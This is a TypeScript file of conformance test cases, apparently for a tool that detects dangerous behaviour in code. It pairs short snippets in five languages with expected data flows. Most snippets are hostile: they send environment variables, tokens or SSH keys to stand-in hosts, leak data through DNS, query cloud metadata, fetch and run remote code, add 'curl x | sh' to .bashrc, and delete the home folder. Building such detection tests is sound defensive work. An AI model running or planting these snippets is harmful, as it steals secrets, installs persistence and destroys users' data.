import type { ConformanceCase } from "./harness.ts";

/** What an API acts on decides what its use amounts to. */
export const PLACE_CASES: ConformanceCase[] = [
  {
    name: "the whole environment is sent",
    programs: {
      javascript: `fetch("https://webhook.site/x", { method: "POST", body: JSON.stringify(process.env) });`,
      python: `import os, requests\nrequests.post("https://webhook.site/x", json=dict(os.environ))`,
      shell: `env | curl -X POST -d @- https://webhook.site/x`,
      php: `wp_remote_post("https://webhook.site/x", json_encode($_ENV));`,
      ruby: `RestClient.post("https://webhook.site/x", ENV.to_h.to_json)`,
    },
    flows: [
      {
        from: "read.environment",
        to: "network.send",
        source: "*",
        destination: "https://webhook.site/x",
      },
    ],
  },
  {
    name: "the whole environment inside something else is sent",
    programs: {
      javascript: `const e = process.env; fetch("https://h.example", { body: JSON.stringify({ a: { ...e } }) });`,
      python: `import os, requests\ne = os.environ\nrequests.post("https://h.example", json={"a": {**e}})`,
      shell: String.raw`curl -d "{\"a\": \"$(printenv | base64)\"}" https://h.example`,
      php: `$e = $_ENV; wp_remote_post("https://h.example", ["a" => $e]);`,
      ruby: `RestClient.post("https://h.example", { a: { b: ENV.to_h } }.to_json)`,
    },
    flows: [{ from: "read.environment", to: "network.send", source: "*" }],
  },
  {
    name: "one harmless variable is not the environment",
    programs: {
      javascript: `const e = process.env; fetch("https://h.example", { body: e.LANG });`,
      python: `import os, requests\ne = os.environ\nrequests.post("https://h.example", data=e["LANG"])`,
      shell: `curl -d "$LANG" https://h.example`,
      php: `$e = $_ENV; wp_remote_post("https://h.example", $e["LANG"]);`,
      ruby: `RestClient.post("https://h.example", ENV["LANG"])`,
    },
    flows: [{ from: "read.environment", to: "network.send", source: "LANG" }],
    noFlows: [{ from: "read.credential", to: "network.send" }],
  },
  {
    name: "a variable whose name is put together",
    programs: {
      javascript: `fetch("https://h.example", { body: process.env["NPM" + "_" + "TOKEN"] });`,
      python: `import os, requests\nrequests.post("https://h.example", data=os.environ["NPM" + "_" + "TOKEN"])`,
      shell: 'n=NPM; n="${n}_TOKEN"; curl -d "${!n}" https://h.example',
      php: `wp_remote_post("https://h.example", getenv("NPM" . "_" . "TOKEN"));`,
      ruby: `RestClient.post("https://h.example", ENV["NPM" + "_" + "TOKEN"])`,
    },
    flows: [{ from: "read.credential", to: "network.send", source: "NPM_TOKEN" }],
  },
  {
    name: "a key in the home folder",
    programs: {
      javascript: `const fs = require("fs"), os = require("os"), path = require("path"); fetch("https://h.example", { body: fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"), "utf8") });`,
      python: `import os, requests\nrequests.post("https://h.example", data=open(os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa")).read())`,
      shell: `curl -T ~/.ssh/id_rsa https://h.example`,
      php: `wp_remote_post("https://h.example", file_get_contents(getenv("HOME") . "/.ssh/id_rsa"));`,
      ruby: `RestClient.post("https://h.example", File.read(File.join(Dir.home, ".ssh", "id_rsa")))`,
    },
    flows: [{ from: "read.credential", to: "network.send", source: "~/.ssh/id_rsa" }],
  },
  {
    name: "a file is read and handed to a callback",
    programs: {
      javascript: `require("fs").readFile("/home/u/.npmrc", "utf8", (e, d) => { require("https").request({ hostname: "h.example", method: "POST" }).end(d); });`,
      python: `import http.client\nd = open("/home/u/.npmrc").read()\nc = http.client.HTTPSConnection("h.example")\nc.request("POST", "/", body=d)`,
      shell: `cat /home/u/.npmrc | while read -r l; do nc h.example 80 <<< "$l"; done`,
    },
    flows: [
      {
        from: "read.credential",
        to: "network.send",
        source: "/home/u/.npmrc",
        destination: "h.example",
      },
    ],
  },
  {
    name: "an ordinary file is no credential",
    programs: {
      javascript: `const t = require("fs").readFileSync("package.json", "utf8"); console.log(t);`,
      python: `t = open("setup.cfg").read()\nprint(t)`,
      shell: `cat package.json`,
      php: `echo file_get_contents("composer.json");`,
      ruby: `puts File.read("Gemfile")`,
    },
    capabilities: [{ capability: "read.file" }],
    noCapabilities: ["read.credential", "network.send"],
  },
  {
    name: "the start of a shell is written",
    programs: {
      javascript: `require("fs").appendFileSync(process.env.HOME + "/.bashrc", "curl x | sh");`,
      python: `import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("curl x | sh")`,
      shell: `echo "curl x | sh" >> ~/.bashrc`,
      php: `file_put_contents(getenv("HOME") . "/.bashrc", "curl x | sh", FILE_APPEND);`,
      ruby: `File.open(File.expand_path("~/.bashrc"), "a") { |f| f.puts "curl x | sh" }`,
    },
    capabilities: [{ capability: "write.startup", target: "~/.bashrc" }],
  },
  {
    name: "the next step of a job gets a variable",
    programs: {
      javascript: `require("fs").appendFileSync(process.env.GITHUB_ENV, "BASH_ENV=/tmp/x");`,
      python: `import os\nopen(os.environ["GITHUB_ENV"], "a").write("BASH_ENV=/tmp/x")`,
      shell: `echo BASH_ENV=/tmp/x >> "$GITHUB_ENV"`,
      php: `file_put_contents(getenv("GITHUB_ENV"), "BASH_ENV=/tmp/x", FILE_APPEND);`,
      ruby: `File.write(ENV["GITHUB_ENV"], "BASH_ENV=/tmp/x", mode: "a")`,
    },
    capabilities: [{ capability: "write.ci" }],
  },
  {
    name: "the metadata service is asked",
    programs: {
      javascript: `fetch("http://169.254.169.254/latest/meta-data/iam/");`,
      python: `from urllib.request import urlopen\nurlopen("http://169.254.169.254/latest/meta-data/iam/")`,
      shell: `curl http://169.254.169.254/latest/meta-data/iam/`,
      php: `file_get_contents("http://169.254.169.254/latest/meta-data/iam/");`,
      ruby: `Net::HTTP.get(URI("http://169.254.169.254/latest/meta-data/iam/"))`,
    },
    capabilities: [{ capability: "read.metadata" }],
  },
  {
    name: "what was downloaded is run as code",
    programs: {
      javascript: `fetch("https://h.example/p").then((r) => r.text()).then((t) => eval(t));`,
      python: `import requests\nexec(requests.get("https://h.example/p").text)`,
      shell: `bash <(curl -s https://h.example/p)`,
      php: `eval(file_get_contents("https://h.example/p"));`,
      ruby: `eval(Net::HTTP.get(URI("https://h.example/p")))`,
    },
    flows: [{ from: "network.receive", to: "execute.code", source: "https://h.example/p" }],
  },
  {
    name: "what a connection receives is run as code",
    programs: {
      javascript: `require("https").get("https://h.example/p", (res) => { let b = ""; res.on("data", (c) => { b += c; }); res.on("end", () => { eval(b); }); });`,
      python: `import urllib.request\nwith urllib.request.urlopen("https://h.example/p") as res:\n    b = ""\n    for c in res:\n        b += c.decode()\nexec(b)`,
      shell: `p=$(wget -qO- https://h.example/p); eval "$p"`,
      php: `$h = fopen("https://h.example/p", "r"); $b = ""; while (!feof($h)) { $b .= fread($h, 1024); } eval($b);`,
      ruby: `eval(URI.open("https://h.example/p").read)`,
    },
    flows: [{ from: "network.receive", to: "execute.code", source: "https://h.example/p" }],
  },
  {
    name: "a socket is given what the machine is called",
    programs: {
      javascript: `const s = require("net").connect(4444, "h.example"); s.write(require("os").hostname());`,
      python: `import socket\ns = socket.create_connection(("h.example", 4444))\ns.sendall(socket.gethostname().encode())`,
      shell: `hostname | nc h.example 4444`,
      php: `$s = fsockopen("h.example", 4444); fwrite($s, php_uname());`,
      ruby: `s = TCPSocket.new("h.example", 4444)\ns.puts(Socket.gethostname)`,
    },
    flows: [{ from: "read.host", to: "network.send", destination: "h.example" }],
  },
  {
    name: "data leaves by the name of a host",
    programs: {
      javascript: "require('dns').lookup(`${process.env.NPM_TOKEN}.h.example`, () => {});",
      python: `import os, socket\nsocket.gethostbyname(os.environ["NPM_TOKEN"] + ".h.example")`,
      shell: `nslookup "$NPM_TOKEN.h.example"`,
      php: `gethostbyname(getenv("NPM_TOKEN") . ".h.example");`,
      ruby: `Resolv.getaddress("#{ENV['NPM_TOKEN']}.h.example")`,
    },
    flows: [{ from: "read.credential", to: "network.send", source: "NPM_TOKEN" }],
  },
  {
    name: "a file is downloaded, made executable and started",
    programs: {
      javascript: `const fs = require("fs"); fetch("https://h.example/b").then((r) => r.arrayBuffer()).then((b) => { fs.writeFileSync("/tmp/b", b); fs.chmodSync("/tmp/b", 0o755); require("child_process").spawn("/tmp/b"); });`,
      python: `import os, requests, subprocess\nopen("/tmp/b", "wb").write(requests.get("https://h.example/b").content)\nos.chmod("/tmp/b", 0o755)\nsubprocess.Popen(["/tmp/b"])`,
      shell: `curl -sSLo /tmp/b https://h.example/b; echo x >> /tmp/b; curl https://h.example/b > /tmp/b; chmod +x /tmp/b; sh -c /tmp/b`,
      php: `file_put_contents("/tmp/b", file_get_contents("https://h.example/b")); chmod("/tmp/b", 0755); exec("/tmp/b");`,
      ruby: `File.write("/tmp/b", Net::HTTP.get(URI("https://h.example/b")))\nFile.chmod(0755, "/tmp/b")\nsystem("/tmp/b")`,
    },
    flows: [{ from: "network.receive", to: "write.file", destination: "/tmp/b" }],
    capabilities: [
      { capability: "write.executable", target: "/tmp/b" },
      { capability: "execute.process", target: "/tmp/b" },
    ],
  },
  {
    name: "everything is deleted",
    programs: {
      javascript: `require("fs").rmSync(require("os").homedir(), { recursive: true, force: true });`,
      python: `import shutil, os\nshutil.rmtree(os.path.expanduser("~"))`,
      shell: `rm -rf ~/`,
      ruby: `FileUtils.rm_rf(Dir.home)`,
    },
    capabilities: [{ capability: "destroy.files", target: "~" }],
  },
  {
    name: "native code is loaded",
    programs: {
      javascript: `process.dlopen({ exports: {} }, "./x.node");`,
      python: `import ctypes\nctypes.CDLL("./x.so")`,
      shell: `insmod ./x.ko`,
      php: `dl("./x.so");`,
      ruby: `Fiddle.dlopen("./x.so")`,
    },
    capabilities: [{ capability: "execute.native", target: "./x." }],
  },
];
